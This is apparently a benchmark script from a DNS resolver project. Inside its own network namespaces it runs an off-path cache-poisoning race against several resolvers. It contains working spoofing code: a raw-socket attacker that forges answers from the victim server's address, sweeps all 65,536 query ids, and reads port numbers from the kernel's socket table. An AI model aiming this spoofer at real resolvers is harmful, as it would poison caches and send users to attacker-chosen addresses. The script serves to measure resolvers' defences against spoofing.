"""The off-path race: real spoofed packets against a resolver's upstream queries.

    python -m bench.odd.race [--peers ours,unbound,…] [--tries 20] [--blind 3]

The attacker makes the resolver ask a victim zone whose server takes its time, and sends forged
answers from that server's address meanwhile (RFC 5452). *Told*: a side channel gives away the port
of each query, at its worst (read from the kernel's own table), so that only the id, the spelling
and a cookie are left to guess; all 65,536 ids are sent. *Blind*: nothing is known, ports and ids
are drawn. Counted: forged packets until the resolver goes to TCP, and wins. The victim is there
with TCP and without. Needs root; everything stays in namespaces of its own.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import random
import socket
import statistics
import struct
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import trio

from bench.common import peers
from bench.odd.streams import DEAD
from resolver.protocol import names
from resolver.protocol.codes import Flag, RRType
from resolver.protocol.edns import Edns
from resolver.protocol.render import build, build_query
from resolver.protocol.wire import Record, parse_untrusted
from tests.simulation import netns

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT_HOST, VICTIM = "45.56.0.1", "45.56.0.2"
DELAY_S = 0.35  # Unbound gives a stranger 376 ms
FORGED, TRUE = bytes([203, 0, 113, 66]), bytes([192, 0, 2, 80])
IDS = 65_536
FRAME = struct.Struct("!BBHHHBBH4s4sHHHH")
LABEL = "abcdefghijklmnop"  # sixteen letters to spell: 2^16 spellings


@dataclass(slots=True)
class Tally:
    """Of one resolver in one setting."""

    tries: int = 0
    wins: int = 0
    sent: list[int] = field(default_factory=list)
    until_tcp: list[int] = field(default_factory=list)


# --- the victim's servers, a process of its own ----------------------------------------------


async def serve(*, has_tcp: bool) -> None:
    """Root and victim; each query to the victim is told on standard output."""
    async with trio.open_nursery() as nursery:
        for host in (ROOT_HOST, VICTIM):
            sock = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            await sock.bind((host, 53))
            nursery.start_soon(_receive, host, sock, nursery)
            if has_tcp or host == ROOT_HOST:
                listeners = await trio.open_tcp_listeners(53, host=host)
                nursery.start_soon(trio.serve_listeners, _stream, listeners)
        print("ready", flush=True)


async def _receive(host: str, sock: trio.socket.SocketType, nursery: trio.Nursery) -> None:
    while True:
        data, source = await sock.recvfrom(4096)
        nursery.start_soon(_answer_late, host, sock, data, source)


async def _answer_late(
    host: str, sock: trio.socket.SocketType, data: bytes, source: tuple[str, int]
) -> None:
    reply = answer(data, TRUE, is_root=host == ROOT_HOST)
    if host == VICTIM:
        print(f"udp {time.monotonic():.6f}", flush=True)
        await trio.sleep(DELAY_S)
    await sock.sendto(reply, source)


async def _stream(stream: trio.SocketStream) -> None:
    from resolver.lab.virtual_streams import receive_message, send_message  # noqa: PLC0415

    while (data := await receive_message(stream)) is not None:
        print(f"tcp {time.monotonic():.6f}", flush=True)
        await send_message(stream, answer(data, TRUE, is_root=False))


def answer(data: bytes, rdata: bytes, *, is_root: bool) -> bytes:
    """An address for whatever is asked at the victim; the root refers to it, and names itself."""
    query = parse_untrusted(data)
    victim, ns = names.from_text("victim."), names.from_text("ns.victim.")
    found: list[Record] = []
    authority: list[Record] = []
    additional: list[Record] = []
    flags = Flag.QR | Flag.AA
    if not is_root:
        if query.qtype == RRType.A:
            own = socket.inet_aton(VICTIM) if query.qname == ns else rdata
            found = [Record(query.qname, RRType.A, 1, 60, own)]
        elif query.qtype == RRType.NS and query.qname == victim:
            found = [Record(victim, RRType.NS, 1, 86_400, ns)]
    elif names.is_subdomain(query.qname, victim):
        flags = Flag.QR
        authority = [Record(victim, RRType.NS, 1, 86_400, ns)]
        additional = [Record(ns, RRType.A, 1, 86_400, socket.inet_aton(VICTIM))]
    else:
        root_ns, host = names.from_text("ns.root."), socket.inet_aton(ROOT_HOST)
        if query.qtype == RRType.NS:
            found = [Record(names.ROOT, RRType.NS, 1, 86_400, root_ns)]
            additional = [Record(root_ns, RRType.A, 1, 86_400, host)]
        elif query.qname == root_ns and query.qtype == RRType.A:
            found = [Record(root_ns, RRType.A, 1, 86_400, host)]
    return build(
        id=query.id, flags=flags, question=(query.qname_raw, query.qtype, query.qclass),
        answer=found, authority=authority, additional=additional,
        edns=Edns(1232) if query.edns is not None else None,
    )  # fmt: skip


# --- the attacker ----------------------------------------------------------------------------


class Attacker:
    """Forges datagrams of the victim's server; knows the resolver's address only."""

    def __init__(self, place: netns.Namespace, target: str) -> None:
        with place.entered():
            self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._target = target
        self.sent = 0

    def spray(self, port: int, ids: Iterator[int], qname: bytes) -> None:
        """One forged answer for each id to *port*."""
        body = answer(build_query(id=0, qname=qname, qtype=RRType.A), FORGED, is_root=False)[2:]
        size = len(body) + 2
        source, target = socket.inet_aton(VICTIM), socket.inet_aton(self._target)
        head = FRAME.pack(0x45, 0, 28 + size, 0, 0, 64, 17, 0, source, target,
                          53, port, 8 + size, 0)  # fmt: skip
        where = (self._target, 0)
        for number in ids:
            self._socket.sendto(head + number.to_bytes(2, "big") + body, where)
            self.sent += 1

    def close(self) -> None:
        self._socket.close()


def ports_towards(place: netns.Namespace, host: str) -> set[int]:
    """Local ports of sockets connected to *host*, or of all but listeners where none is."""
    raw = socket.inet_aton(host)
    wanted = f"{int.from_bytes(raw, 'little'):08X}:0035"
    with place.entered():
        lines = Path("/proc/thread-self/net/udp").read_text().splitlines()[1:]
    fields = [line.split() for line in lines]
    connected = {int(one[1].split(":")[1], 16) for one in fields if one[2] == wanted}
    if connected:
        return connected
    free = {int(one[1].split(":")[1], 16) for one in fields if one[2].startswith("00000000")}
    return {port for port in free if port > 1023}


# --- one try ---------------------------------------------------------------------------------


def race(
    resolver: netns.Namespace, place: netns.Namespace, target: str, log: Path, number: int,
    tally: Tally, *, is_told: bool,
) -> None:  # fmt: skip
    """Make the resolver ask, forge until an answer comes, and see whose it is."""
    qname = names.from_text(f"{LABEL}{number}.victim.")
    attacker = Attacker(place, target)
    before = len(log.read_text().splitlines())
    known = ports_towards(resolver, VICTIM)
    rng = random.Random(number)
    with resolver.socket(socket.AF_INET, socket.SOCK_DGRAM) as stub:
        stub.connect(("127.0.0.1", 53))
        stub.send(build_query(id=7, qname=qname, qtype=RRType.A, flags=Flag.RD))
        stub.settimeout(0)
        until = time.monotonic() + 6.0
        marks: list[tuple[float, int]] = []
        reply = None
        done: dict[int, int] = {}  # ids tried at each port
        while reply is None and time.monotonic() < until:
            if is_told:
                for port in ports_towards(resolver, VICTIM) - known:
                    at = done.get(port, 0)
                    step = 16 if at < 512 else 512
                    attacker.spray(port, iter(range(at, min(at + step, IDS))), qname)
                    done[port] = min(at + step, IDS)
                    marks.append((time.monotonic(), attacker.sent))
            else:
                port = rng.randrange(1024, 65_536)
                attacker.spray(port, (rng.randrange(IDS) for _ in range(256)), qname)
            with contextlib.suppress(BlockingIOError):
                reply = stub.recv(4096)
    tally.tries += 1
    tally.sent.append(attacker.sent)
    tally.wins += reply is not None and FORGED in reply
    attacker.close()
    time.sleep(0.1)
    told = [line.split() for line in log.read_text().splitlines()[before:]]
    tcp = [float(words[1]) for words in told if words[0] == "tcp"]
    if tcp and marks:
        tally.until_tcp.append(next((sent for at, sent in marks if at >= tcp[0]), attacker.sent))


def setting(
    name: str, number: int, directory: Path, *, has_tcp: bool, tries: int, blind: int
) -> tuple[Tally, Tally]:
    """All tries against one resolver: told, blind."""
    home = directory / f"{name}-{number}"
    home.mkdir()
    hints = peers.write_hints(home / "hints", [("ns.root.", [ROOT_HOST])])
    setup = peers.Setup(directory=home, hints=hints)
    told, unaware = Tally(), Tally()
    with netns.namespace("race") as place, netns.namespace("res") as resolver:
        netns.connect(resolver, place, names=("r", "s"), quiet=True)
        place.ip("addr add 10.56.0.1/30 dev s", "route add local 45.56.0.0/16 dev lo table main")
        resolver.ip("addr add 10.56.0.2/30 dev r", "route add default via 10.56.0.1")
        log = home / "servers"
        servers = place.spawn(
            sys.executable, "-m", "bench.odd.race", "--serve", "tcp" if has_tcp else DEAD, log=log,
            cwd=peers.PROJECT, env={**os.environ, "PYTHONPATH": str(peers.PROJECT)},
        )  # fmt: skip
        servers.await_line("ready")
        peers.start(name, setup, resolver)
        time.sleep(1.0)
        warm = Tally()
        race(resolver, place, "10.56.0.2", log, 9999, warm, is_told=False)
        for at in range(tries):
            race(resolver, place, "10.56.0.2", log, at, told, is_told=True)
        for at in range(blind):
            race(resolver, place, "10.56.0.2", log, 5000 + at, unaware, is_told=False)
    return told, unaware


def _row(name: str, told: Tally, blind: Tally, *, has_tcp: bool) -> str:
    packets = statistics.median(told.sent) if told.sent else 0
    tcp = f"{min(told.until_tcp)} to {max(told.until_tcp)}" if told.until_tcp else "–"
    where = "with TCP" if has_tcp else "no TCP"
    return (
        f"| {name} | {where} | {told.wins} of {told.tries} | {packets:.0f} | {tcp}"
        f" | {blind.wins} of {blind.tries} | {sum(blind.sent)} |"
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--peers", default=",".join(peers.PROGRAMS))
    parser.add_argument("--tries", type=int, default=20)
    parser.add_argument("--blind", type=int, default=3)
    parser.add_argument("--serve", default="")
    options = parser.parse_args()
    if options.serve:
        has_tcp = options.serve == "tcp"
        trio.run(lambda: serve(has_tcp=has_tcp))
        return 0
    reason = netns.missing()
    if reason:
        raise SystemExit(reason)
    chosen = peers.present(options.peers.split(","))
    print(
        "| resolver | victim | told: wins of tries | packets | until TCP | blind: wins | packets |"
    )
    print("|---|---|---|---|---|---|---|")
    with tempfile.TemporaryDirectory(prefix="race-") as text:
        directory = Path(text)
        directory.chmod(0o755)
        for at, name in enumerate(chosen):
            for has_tcp in (True, False):
                told, blind = setting(
                    name, 2 * at + has_tcp, directory,
                    has_tcp=has_tcp, tries=options.tries, blind=options.blind,
                )  # fmt: skip
                print(_row(name, told, blind, has_tcp=has_tcp), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
